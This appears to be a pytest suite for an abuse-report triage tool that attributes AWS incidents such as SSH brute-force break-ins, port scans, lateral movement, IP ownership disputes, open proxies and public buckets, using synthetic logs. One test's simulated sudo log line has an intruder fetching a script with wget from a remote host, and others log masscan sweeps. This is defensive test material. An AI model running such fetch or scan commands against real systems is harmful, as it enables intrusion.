"""What trace makes of hosts, addresses and services, from host logs, flow logs and what EC2 shows."""

from __future__ import annotations

from datetime import timedelta

import pytest
from trace_world import (
    ACCOUNT,
    BOTO,
    CHROME,
    CLI,
    NOW,
    OFFICE,
    THIEF,
    THIEF2,
    World,
    console,
    launched,
    session,
)

from abusedesk.model import Attackers, Coverage

HOST, PRIVATE = "i-0aaaaaaaaaaaaaaa1", "10.0.1.20"


def best(found):
    return found.root_causes[0]


def noise(world):
    """The owner by key from the office, and bots that try what they try everywhere."""
    for day in range(10):
        world.log(
            24 * day + 2,
            f"Accepted publickey for ubuntu from {OFFICE} port 50{day:03d} ssh2: ED25519 SHA256:owner",
        )
        for number in range(15):
            ip = f"198.18.{day}.{number % 3}"
            world.log(
                24 * day + number / 3,
                f"Failed password for invalid user admin from {ip} port 4{number:04d} ssh2",
            )
            world.log(24 * day + number / 3, f"Failed password for root from {ip} port 3{number:04d} ssh2")
    return world


def break_in(world):
    for number in range(40):
        world.log(32 - number / 60, f"Failed password for deploy from {THIEF} port 2{number:04d} ssh2")
    world.log(31, f"Accepted password for deploy from {THIEF} port 23000 ssh2")
    world.log(29, f"Accepted password for deploy from {THIEF2} port 23001 ssh2")
    return world


def scan(world, hours=28):
    for number in range(120):
        world.flow(hours - number / 3600, PRIVATE, f"198.18.200.{number}", (40000 + number, 22))
    return world


def test_guessed_password_on_the_host_that_scanned(told):
    found = told(scan(break_in(noise(World().ordinary()))), kind="port_scan", resources=(HOST,))
    assert best(found).kind == "host_compromised_by_bruteforce"
    assert best(found).since == NOW - timedelta(hours=31)
    assert found.attackers == Attackers(ips=(THIEF, THIEF2))
    assert [thing.id for thing in found.affected] == [HOST]


def test_bots_that_guess_in_vain_are_no_break_in(told):
    found = told(noise(World().ordinary()), kind="port_scan", resources=(HOST,))
    assert best(found).kind == "unknown"
    assert found.attackers == Attackers()


def test_owner_who_mistypes_is_no_break_in(told):
    world = noise(World().ordinary())
    for number in range(3):
        world.log(30 - number / 60, f"Failed password for ubuntu from 203.0.113.50 port 2{number:04d} ssh2")
    world.log(29.9, "Accepted password for ubuntu from 203.0.113.50 port 23000 ssh2")
    found = told(world, kind="port_scan", resources=(HOST,))
    assert found.attackers == Attackers()


def test_owner_who_mistypes_often_at_the_office_is_no_break_in(told):
    world = noise(World().ordinary())
    for number in range(9):
        world.log(30 - number / 60, f"Failed password for deploy from {OFFICE} port 2{number:04d} ssh2")
    world.log(29.8, f"Accepted password for deploy from {OFFICE} port 23000 ssh2")
    assert told(world, kind="port_scan", resources=(HOST,)).attackers == Attackers()


def test_guessing_spread_over_many_addresses_is_put_together(told):
    world = noise(World().ordinary())
    crowd = [f"198.51.100.{number}" for number in range(100, 108)]
    for number in range(80):
        world.log(
            33 - number / 60,
            f"Failed password for svc-deploy from {crowd[number % 8]} port 2{number:04d} ssh2",
        )
    world.log(31, f"Accepted password for svc-deploy from {THIEF} port 23000 ssh2")
    found = told(world, kind="port_scan", resources=(HOST,))
    assert best(found).kind == "host_compromised_by_bruteforce"
    assert set(found.attackers.ips) == {THIEF, *crowd}


def test_what_was_loaded_after_the_log_in_belongs_to_the_intruder(told):
    world = scan(break_in(noise(World().ordinary())))
    for hours in (100, 50, 30.5):
        world.flow(hours, PRIVATE, "198.51.100.200", (41000, 443))
        world.flow(hours, "198.51.100.200", PRIVATE, (443, 41000), size=90_000)
    world.flow(30.8, PRIVATE, "203.0.113.77", (41001, 8080))
    world.flow(30.8, "203.0.113.77", PRIVATE, (8080, 41001), size=700_000)
    command = "deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.78/a.sh"
    world.log(30.7, command, program="sudo")
    found = told(world, kind="port_scan", resources=(HOST,))
    assert set(found.attackers.ips) == {THIEF, THIEF2, "203.0.113.77", "203.0.113.78"}


def test_what_the_intruder_did_with_the_role_of_the_host_is_his(told):
    world = break_in(noise(World().ordinary()))
    actor = session("web", HOST, "ASIAWEBAFTERBREAKIN1")
    world.call(29, actor, "s3:GetObject", "192.0.2.200", BOTO, request={"bucketName": "app"})
    world.call(28, actor, "sts:GetCallerIdentity", "192.0.2.200", CLI)
    world.call(
        28, actor, "secretsmanager:GetSecretValue", "192.0.2.200", CLI, request={"secretId": "prod/db"}
    )
    found = told(world, kind="port_scan", resources=(HOST,))
    assert best(found).kind == "host_compromised_by_bruteforce"
    assert {thing.id for thing in found.affected} == {
        HOST,
        f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:prod/db",
    }
    assert "192.0.2.200" not in found.attackers.ips


def reported(hours, ip, **more):
    when = NOW - timedelta(hours=hours)
    return {"kind": "port_scan", "ips": (ip,), "activity_start": when, "activity_end": when, **more}


def test_address_that_came_to_us_after_the_reported_time_was_not_ours(told):
    world = World().ordinary()
    world.call(
        10,
        console("alice", "eip"),
        "ec2:AllocateAddress",
        OFFICE,
        CHROME,
        response={"publicIp": "198.51.100.99", "allocationId": "eipalloc-1"},
    )
    world.thing(
        "ec2.address",
        "eipalloc-1",
        {"PublicIp": "198.51.100.99", "AllocationId": "eipalloc-1", "InstanceId": HOST},
    )
    found = told(world, **reported(30, "198.51.100.99"))
    assert best(found).kind == "not_ours"
    assert best(found).since is None
    assert found.attackers == Attackers()


def test_address_that_was_ours_at_the_reported_time_is_not_disputed(told):
    world = World().ordinary()
    world.call(
        40,
        console("alice", "eip"),
        "ec2:AllocateAddress",
        OFFICE,
        CHROME,
        response={"publicIp": "198.51.100.99", "allocationId": "eipalloc-1"},
    )
    world.thing(
        "ec2.address",
        "eipalloc-1",
        {"PublicIp": "198.51.100.99", "AllocationId": "eipalloc-1", "InstanceId": HOST},
    )
    found = told(world, **reported(30, "198.51.100.99"))
    assert "not_ours" not in {cause.kind for cause in found.root_causes}


def test_address_given_back_before_the_reported_time_was_not_ours(told):
    world = World().ordinary()
    world.call(
        200,
        console("alice", "eip"),
        "ec2:AllocateAddress",
        OFFICE,
        CHROME,
        response={"publicIp": "198.51.100.99", "allocationId": "eipalloc-1"},
    )
    world.call(
        100,
        console("alice", "eip2"),
        "ec2:ReleaseAddress",
        OFFICE,
        CHROME,
        request={"allocationId": "eipalloc-1"},
    )
    found = told(world, **reported(30, "198.51.100.99"))
    assert best(found).kind == "not_ours"


def test_instance_started_after_the_reported_time_was_not_there(told):
    world = World().ordinary()
    world.call(
        10, console("alice", "new"), "ec2:RunInstances", OFFICE, CHROME, **launched("i-0eeeeeeeeeeeeeee1")
    )
    world.instance("i-0eeeeeeeeeeeeeee1", ip="198.51.100.98", private="10.0.1.99", launched=10)
    found = told(world, **reported(30, "198.51.100.98", resources=("i-0eeeeeeeeeeeeeee1",)))
    assert best(found).kind == "not_ours"


def test_address_never_seen_here_is_disputed_with_less_certainty_when_not_all_was_read(told):
    world = World().ordinary()
    whole = best(told(world, **reported(30, "198.51.100.97")))
    world.coverage.append(Coverage("ec2_addresses", "eu-west-1", "denied"))
    part = next(
        cause
        for cause in told(world, **reported(30, "198.51.100.97")).root_causes
        if cause.kind == "not_ours"
    )
    assert whole.kind == "not_ours"
    assert part.confidence < whole.confidence


def test_announced_scanner_is_authorised(told):
    world = World().ordinary()
    world.call(
        60, console("alice", "sc"), "ec2:RunInstances", OFFICE, CHROME, **launched("i-0fffffffffffffff1")
    )
    world.instance(
        "i-0fffffffffffffff1",
        private="10.0.1.30",
        launched=60,
        Tags=[
            {"Key": "Name", "Value": "vuln-scanner"},
            {"Key": "purpose", "Value": "penetration test SEC-9"},
        ],
    )
    found = told(world, kind="port_scan", resources=("i-0fffffffffffffff1",))
    assert best(found).kind == "authorised_activity"
    assert found.attackers == Attackers()


def test_scan_that_the_owner_started_by_hand_is_a_test_against_policy(told):
    world = scan(noise(World().ordinary()))
    world.log(
        29,
        "ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/bin/masscan -p22 198.18.0.0/16",
        program="sudo",
    )
    found = told(world, kind="port_scan", resources=(HOST,))
    assert best(found).kind == "own_test_against_policy"
    assert found.attackers == Attackers()


def test_tool_that_an_intruder_started_is_no_test_of_ours(told):
    world = scan(break_in(noise(World().ordinary())))
    world.log(
        28.5,
        "deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/masscan -p22 198.18.0.0/16",
        program="sudo",
    )
    assert best(told(world, kind="port_scan", resources=(HOST,))).kind == "host_compromised_by_bruteforce"


OPEN = [{"IpProtocol": "tcp", "FromPort": 3128, "ToPort": 3128, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]


@pytest.mark.parametrize(("rules", "sure"), [(OPEN, True), ([], False)])
def test_open_proxy_is_blamed_on_the_group_that_lets_everybody_in(told, rules, sure):
    world = World().ordinary()
    world.instance("i-0999999999999999a", private="10.0.1.40", SecurityGroups=[{"GroupId": "sg-0p"}])
    group = world.thing(
        "ec2.security_group", "sg-0p", {"GroupId": "sg-0p", "IpPermissions": rules}, "us-east-1"
    )
    found = told(world, kind="open_proxy", resources=("i-0999999999999999a",))
    cause = next(cause for cause in found.root_causes if cause.kind == "exposed_service_abused")
    assert (group in cause.for_) is sure
    assert (cause.confidence > 0.8) is sure


EVERYBODY = {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "*"}]}


@pytest.mark.parametrize(("policy", "sure"), [(EVERYBODY, True), ({"Statement": []}, False)])
def test_public_bucket_is_blamed_on_its_policy(told, policy, sure):
    world = World().ordinary()
    world.thing("s3.bucket", "assets", {"Name": "assets", "Policy": policy})
    found = told(world, kind="public_bucket", resources=("arn:aws:s3:::assets",))
    assert best(found).kind == "public_storage"
    assert (best(found).confidence > 0.8) is sure


def test_next_host_that_the_intruder_reached_from_the_first_fell_too(told):
    world = break_in(noise(World().ordinary()))
    world.instance("i-0bbbbbbbbbbbbbbb2", private="10.0.1.50")
    world.log(28, f"Accepted password for deploy from {PRIVATE} port 40000 ssh2", host="ip-10-0-1-50")
    found = told(world, kind="port_scan", resources=(HOST,))
    assert {thing.id for thing in found.affected} == {HOST, "i-0bbbbbbbbbbbbbbb2"}
    assert PRIVATE not in found.attackers.ips


def test_hop_that_the_owner_made_before_is_not_the_intruders(told):
    world = break_in(noise(World().ordinary()))
    world.instance("i-0bbbbbbbbbbbbbbb2", private="10.0.1.50")
    for hours in (100, 28):
        words = f"Accepted publickey for ubuntu from {PRIVATE} port 40000 ssh2: RSA SHA256:o"
        world.log(hours, words, host="ip-10-0-1-50")
    found = told(world, kind="port_scan", resources=(HOST,))
    assert {thing.id for thing in found.affected} == {HOST}
